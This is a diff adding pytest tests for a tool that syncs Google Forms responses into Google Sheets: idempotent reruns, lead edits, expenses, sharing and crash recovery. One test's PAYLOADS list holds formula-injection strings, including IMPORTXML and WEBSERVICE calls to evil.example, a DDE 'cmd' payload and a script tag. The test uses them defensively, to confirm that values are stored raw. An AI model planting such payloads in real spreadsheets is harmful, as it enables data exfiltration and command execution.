@@ -1,0 +1,261 @@
+"""ppp-gsuite sync against the local workspace over real HTTP."""
+import shutil
+from datetime import date, datetime, timedelta, timezone
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from ppp_gsuite.cli import main
+from ppp_gsuite.forms.deploy import deploy
+from ppp_gsuite.forms.items import question_id
+from ppp_gsuite.google.clients import local_clients
+from ppp_gsuite.google.drive_api import DriveApi
+from ppp_gsuite.google.forms_api import FormsApi
+from ppp_gsuite.google.sheets_api import SheetsApi
+from ppp_gsuite.sheets.a1 import cell_range, quoted
+from ppp_gsuite.sync.destinations import destinations
+from ppp_gsuite.sync.run import Sync
+from ppp_gsuite.workspace import load_all
+
+MINIMAL = Path(__file__).parent / "fixtures" / "minimal"
+EOI = "expression_of_interest"
+TAB = "Expressions of interest"
+
+
+class Env:
+    """A deployed minimal workspace on the local server, with helpers to answer forms and read sheets."""
+
+    def __init__(self, local, root: Path):
+        self.local, self.root = local, root
+        self.loaded = load_all(root / "ppp-gsuite.yaml")
+        clients = local_clients(local.url)
+        self.forms, self.drive, self.sheets = FormsApi(clients.forms), DriveApi(clients.drive), SheetsApi(clients.sheets)
+        outcomes = deploy(self.loaded.targets, self.forms, self.drive, date(2026, 11, 24))
+        self.form_ids = {o.target.key: o.form_id for o in outcomes}
+        self.clock = datetime(2026, 11, 24, 9, 0, tzinfo=timezone.utc)
+
+    def answer(self, form_key, spec, **answers):
+        body = {"answers": {
+            question_id(spec, key): {"questionId": question_id(spec, key), "textAnswers": {"answers": [{"value": v}]}}
+            for key, v in answers.items()
+        }}
+        return self.local.add_response(self.form_ids[form_key], body)
+
+    def apply(self, sheets=None, **kwargs):
+        config = self.loaded.workspace.config
+        self.clock += timedelta(minutes=5)
+        job = Sync(config, self.loaded.targets, destinations(config, self.loaded.targets, self.loaded.layouts),
+                   self.forms, self.drive, sheets or self.sheets, self.clock, **kwargs)
+        return job.run()
+
+    def spreadsheet(self, target):
+        return next(f["id"] for f in self.drive.find("spreadsheet") if f["appProperties"]["target"] == target)
+
+    def tab(self, target, title=TAB):
+        return self.sheets.read_tabs(self.spreadsheet(target), [title])[title][1]
+
+    def records(self, target, title=TAB):
+        values = self.tab(target, title)
+        return [dict(zip(values[0], row + [""] * (len(values[0]) - len(row)))) for row in values[1:] if any(row)]
+
+    def write(self, target, ranges):
+        self.sheets.write(self.spreadsheet(target), ranges)
+
+
+@pytest.fixture
+def env(local, tmp_path, monkeypatch):
+    shutil.copytree(MINIMAL, tmp_path, dirs_exist_ok=True)
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("PPP_GSUITE_LOCAL_URL", local.url)
+    return Env(local, tmp_path)
+
+
+HEART = "opportunity:heart-board"
+
+
+def test_a_response_becomes_one_row_and_reruns_change_nothing(env, local):
+    env.answer("eoi-heart-board", EOI, full_name="Robin Applicant", email="robin@example.org")
+    report = env.apply()
+    assert report.added == 1
+    rows = env.records(HEART)
+    assert len(rows) == 1
+    assert rows[0]["Name"] == "Robin Applicant" and rows[0]["Status"] == "New"
+    assert len(rows[0]["Reference"]) >= 12
+    before = len(local.requests())
+    again = env.apply()
+    assert again.added == 0 and again.updated == 0
+    assert {r["method"] for r in local.requests()[before:]} == {"GET"}
+    assert len(env.records(HEART)) == 1
+
+
+def test_sync_stays_right_after_a_lead_sorts_inserts_a_column_and_sets_statuses(env, local):
+    first = [env.answer("eoi-heart-board", EOI, full_name=name, email=f"{name.lower()}@example.org")
+             for name in ("Cara", "Abe", "Bea")]
+    env.apply()
+    sheet_id = env.spreadsheet(HEART)
+    # The lead inserts a column before everything, then sorts the rows by name and sets statuses.
+    tab_id = next(s["properties"]["sheetId"] for s in env.sheets.metadata(sheet_id)["sheets"] if s["properties"]["title"] == TAB)
+    env.sheets.batch_update(sheet_id, [{"insertDimension": {"range": {"sheetId": tab_id, "dimension": "COLUMNS", "startIndex": 0, "endIndex": 1}}}])
+    values = env.tab(HEART)
+    header = values[0]
+    rows = sorted(values[1:], key=lambda r: r[header.index("Name")])
+    header[0] = "Lead's own column"
+    status = header.index("Status")
+    for row in rows:
+        row[status] = {"Abe": "Shortlisted", "Bea": "Not appointed", "Cara": "Appointed"}[row[header.index("Name")]]
+        row[0] = "my note on " + row[header.index("Name")]
+    env.write(HEART, [(cell_range(TAB, 1, 0, len(header) - 1, len(rows) + 1), [header] + rows)])
+
+    cara = next(r for r in first if r["answers"][question_id(EOI, "full_name")]["textAnswers"]["answers"][0]["value"] == "Cara")
+    edited = dict(cara["answers"])
+    edited[question_id(EOI, "email")] = {"questionId": question_id(EOI, "email"), "textAnswers": {"answers": [{"value": "cara.new@example.org"}]}}
+    local.edit_response(env.form_ids["eoi-heart-board"], cara["responseId"], {"answers": edited})
+    env.answer("eoi-heart-board", EOI, full_name="Dan", email="dan@example.org")
+    report = env.apply()
+    assert report.added == 1 and report.updated == 1
+
+    records = env.records(HEART)
+    assert [r["Name"] for r in records] == ["Abe", "Bea", "Cara", "Dan"]
+    by_name = {r["Name"]: r for r in records}
+    assert by_name["Abe"]["Status"] == "Shortlisted"
+    assert by_name["Bea"]["Status"] == "Not appointed"
+    assert by_name["Cara"]["Status"] == "Appointed"
+    assert by_name["Cara"]["Email"] == "cara.new@example.org"
+    assert by_name["Dan"]["Status"] == "New"
+    assert all(by_name[n]["Lead's own column"] == f"my note on {n}" for n in ("Abe", "Bea", "Cara"))
+    assert by_name["Dan"]["Lead's own column"] == ""
+    assert len({r["Response ID"] for r in records}) == 4
+
+
+PAYLOADS = [
+    '=IMPORTXML("http://evil.example/x", "//a")', '=HYPERLINK("http://evil.example", "click")', "=1+1",
+    "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r\n=1+1", "=cmd|' /C calc'!A0", "'=1+1",
+    '=IMAGE("http://evil.example/p.png")', "=WEBSERVICE(\"http://evil.example\")", "0012", "1e10", "TRUE",
+    "2026-01-01", "£5", "  spaces  ", "<script>alert(1)</script>", "=A1&\"x\"",
+]
+
+
+def test_formula_payloads_are_written_raw_and_read_back_exactly(env):
+    clients = local_clients(env.local.url)
+    bodies = []
+    send = clients.sheets.values_batch_update
+
+    def recording(spreadsheet_id, body=None):
+        bodies.append(body)
+        return send(spreadsheet_id, body)
+
+    clients.sheets.values_batch_update = recording
+    free_text = ("full_name", "email", "interests_details", "heart_experience")
+    for payload in PAYLOADS:
+        env.answer("eoi-heart-board", EOI, **{key: payload for key in free_text}, has_interests="Yes")
+    env.apply(sheets=SheetsApi(clients.sheets))
+    assert bodies and all(body["valueInputOption"] == "RAW" for body in bodies)
+    rows = env.records(HEART)
+    assert sorted(r["Name"] for r in rows) == sorted(PAYLOADS)
+    for row in rows:
+        assert row["Email"] == row["Name"]
+        assert row["Tell us about your experience of heart services"] == row["Name"]
+        assert "Email: does not look like an email address" in row["Needs checking"]
+
+
+def test_needs_assessment_lands_in_the_partners_opportunity_and_unknown_references_are_kept(env):
+    env.answer("eoi-heart-board", EOI, full_name="Robin", email="robin@example.org")
+    env.apply()
+    reference = env.records(HEART)[0]["Reference"]
+    env.answer("needs_assessment", "needs_assessment", reference=reference, what="Print")
+    env.answer("needs_assessment", "needs_assessment", reference="not-a-real-one", what="Screen")
+    report = env.apply()
+    assert report.unmatched == 1
+    needs = env.records(HEART, "Needs assessments")
+    assert len(needs) == 1 and needs[0]["Name"] == "Robin" and needs[0]["What"] == "Print"
+    unmatched = env.records("admin", "Unmatched needs assessments")
+    assert len(unmatched) == 1 and unmatched[0]["What"] == "Screen"
+    assert "reference not found" in unmatched[0]["Needs checking"]
+
+
+def test_expense_claims_get_mileage_and_totals(env):
+    env.answer("eoi-heart-board", EOI, full_name="Robin", email="robin@example.org")
+    env.apply()
+    reference = env.records(HEART)[0]["Reference"]
+    env.answer("expenses", "expenses", reference=reference, how="Car", when="2026-11-01", miles="20", fares="£3.50")
+    env.answer("expenses", "expenses", reference=reference, how="Bus", when="2026-11-02", miles="lots", fares="2")
+    env.apply()
+    claims = sorted(env.records("expenses", "Expense claims"), key=lambda r: r["Date"])
+    assert claims[0]["Mileage (£)"] == "9.00" and claims[0]["Total (£)"] == "12.50"
+    assert claims[0]["Claim status"] == "Submitted" and claims[0]["Name"] == "Robin"
+    assert claims[0]["Role"] == "Heart Care Board"
+    assert claims[1]["Total (£)"] == "2.00"
+    assert "Miles: is not a number" in claims[1]["Needs checking"]
+
+
+def test_spreadsheets_are_shared_only_with_who_needs_them(env):
+    env.apply()
+    files = {f["appProperties"]["target"]: f["id"] for f in env.drive.find("spreadsheet")}
+    def readers(target):
+        return {p.get("emailAddress") for p in env.drive.permissions(files[target]) if p.get("role") != "owner"}
+    assert readers(HEART) == {"alex@example.org"}
+    assert readers("opportunity:eye-group") == {"jo@example.org"}
+    assert readers("expenses") == {"pat@example.org"}
+    assert readers("admin") == set()
+
+
+def test_sync_with_nothing_deployed_says_so_and_fails(local, tmp_path, monkeypatch):
+    shutil.copytree(MINIMAL, tmp_path, dirs_exist_ok=True)
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.setenv("PPP_GSUITE_LOCAL_URL", local.url)
+    result = CliRunner().invoke(main, ["sync"])
+    assert result.exit_code == 1
+    assert "run ppp-gsuite deploy-forms first" in result.output
+
+
+class Crash(BaseException):
+    """Stands for the process being killed: nothing after it runs."""
+
+
+class CrashingAt:
+    """Proxies an adapter; the Nth call overall (across adapters) crashes, before or after reaching the server."""
+
+    def __init__(self, inner, counter, at, after):
+        self._inner, self._counter, self._at, self._after = inner, counter, at, after
+
+    def __getattr__(self, name):
+        method = getattr(self._inner, name)
+        if not callable(method):
+            return method
+
+        def call(*args, **kwargs):
+            self._counter[0] += 1
+            if self._counter[0] == self._at and not self._after:
+                raise Crash()
+            result = method(*args, **kwargs)
+            if self._counter[0] == self._at:
+                raise Crash()
+            return result
+        return call
+
+
+@pytest.mark.parametrize("after", [False, True], ids=["before-the-call", "after-the-call"])
+def test_a_crash_at_any_point_leaves_every_response_in_its_sheet_exactly_once(env, after):
+    for n in range(3):
+        env.answer("eoi-heart-board", EOI, full_name=f"Heart {n}", email=f"h{n}@example.org")
+        env.answer("eoi-eye-group", EOI, full_name=f"Eye {n}", email=f"e{n}@example.org")
+    config = env.loaded.workspace.config
+    step = 1
+    while True:
+        counter = [0]
+        wrap = lambda api: CrashingAt(api, counter, step, after)  # noqa: E731
+        env.clock += timedelta(minutes=1)
+        job = Sync(config, env.loaded.targets, destinations(config, env.loaded.targets, env.loaded.layouts),
+                   wrap(env.forms), wrap(env.drive), wrap(env.sheets), env.clock)
+        try:
+            job.run()
+            break
+        except Crash:
+            step += 1
+    assert step > 10, "the run should have been interrupted at many points"
+    env.apply()
+    for target, prefix in ((HEART, "Heart"), ("opportunity:eye-group", "Eye")):
+        names = sorted(r["Name"] for r in env.records(target))
+        assert names == [f"{prefix} {n}" for n in range(3)]
+    assert len(env.drive.find("spreadsheet")) == 4
